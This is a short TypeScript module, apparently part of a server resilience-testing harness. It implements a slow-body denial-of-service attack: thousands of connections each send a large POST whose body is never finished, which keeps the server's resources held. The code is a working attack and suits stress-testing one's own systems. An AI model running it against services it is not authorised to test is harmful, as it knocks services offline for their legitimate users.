/** Sends large bodies without their last byte. */

import { type Attacker, connections } from './attacker.ts'

export interface SlowBodyOptions {
  readonly connections?: number
  readonly bytes?: number
}

export const slowBodies = ({ connections: count = 2_000, bytes = 510_000 }: SlowBodyOptions = {}): Attacker => {
  const head =
    `POST /orders/batch HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${bytes}\r\n\r\n` +
    '{"orders":['
  const unfinished = Buffer.from(head.padEnd(head.length + bytes - 20, ' '))
  return {
    name: `${count} bodies of ${bytes} bytes that never end`,
    start: async (url) => connections(url, count, (socket) => socket.resume().write(unfinished)),
  }
}
